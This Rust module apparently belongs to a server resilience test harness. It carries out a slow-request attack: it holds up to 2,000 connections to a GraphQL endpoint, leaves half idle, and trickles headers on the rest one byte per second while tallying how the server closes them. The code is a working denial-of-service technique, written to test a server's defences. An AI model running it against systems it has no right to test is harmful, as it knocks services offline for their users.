//! As many connections as possible, which are held: every other one is idle, the others send a request
//! a byte a second.

use std::io::{ErrorKind, Read as _, Write as _};
use std::net::TcpStream;
use std::time::{Duration, Instant};

use super::{Counts, Target, count};
use crate::Outcome;
use crate::client::connect_from;
use crate::load::pause;

/// Tries to connect: half of them at once, the others during the whole attack, in place of those that were
/// closed.
const TRIES: u32 = 2_000;
const TICKS_PER_SECOND: u32 = 10;
/// Requests begin with it; the rest of the header comes a byte a second.
const BEGIN: &str = "POST /graphql HTTP/1.1\r\n";
const REST: &[u8] = b"host: 127.0.0.1\r\ncontent-type: application/json\r\nx-padding: ";

/// A connection that is held.
struct Held {
    stream: TcpStream,
    opened: Instant,
    /// Bytes of the request's rest that were sent; none of an idle connection.
    sent: Option<usize>,
}

/// Minimum age of an accepted connection.
const AT_ONCE: Duration = Duration::from_secs(1);

#[expect(clippy::unnecessary_wraps, reason = "other attacks fail before they begin")]
pub fn run(target: &Target<'_>) -> Outcome<Counts> {
    let mut counts = Counts::new();
    let mut held = Vec::new();
    let started = Instant::now();
    let mut tries = 0_u32;
    for tick in 1.. {
        if target.is_over() {
            break;
        }
        let elapsed = started.elapsed().as_secs_f64() / target.duration.as_secs_f64();
        let due = f64::from(TRIES / 2) * (1.0 + elapsed.min(1.0));
        while f64::from(tries) < due && !target.is_over() {
            tries += 1;
            match open(target, tries.is_multiple_of(2)) {
                Ok(connection) => held.push(connection),
                Err(_) => count(&mut counts, "not connected"),
            }
        }
        held.retain_mut(|connection| connection.is_open(&mut counts));
        if tick % TICKS_PER_SECOND == 0 {
            held.iter_mut().for_each(Held::send_a_byte);
        }
        pause(Duration::from_secs(1) / TICKS_PER_SECOND);
    }
    counts.insert("open at the end".to_owned(), held.len());
    Ok(counts)
}

fn open(target: &Target<'_>, is_idle: bool) -> Outcome<Held> {
    let mut stream = connect_from(target.from, target.address)?;
    if !is_idle {
        stream.write_all(BEGIN.as_bytes())?;
    }
    stream.set_nonblocking(true)?;
    Ok(Held { stream, opened: Instant::now(), sent: (!is_idle).then_some(0) })
}

impl Held {
    /// Counts a connection that the server has closed.
    fn is_open(&mut self, counts: &mut Counts) -> bool {
        let closed = match self.stream.read(&mut [0; 1024]) {
            // A response, before the connection is closed.
            Ok(1..) => return true,
            Ok(0) => "closed",
            Err(error) if error.kind() == ErrorKind::WouldBlock => return true,
            Err(_) => "reset",
        };
        let when = if self.opened.elapsed() < AT_ONCE { "at once" } else { "later" };
        count(counts, format!("{closed} {when}"));
        false
    }

    fn send_a_byte(&mut self) {
        if let Some(sent) = &mut self.sent {
            let byte = REST.get(*sent).unwrap_or(&b'x');
            // A failure shows when the connection is read.
            let _ = self.stream.write_all(&[*byte]);
            *sent += 1;
        }
    }
}
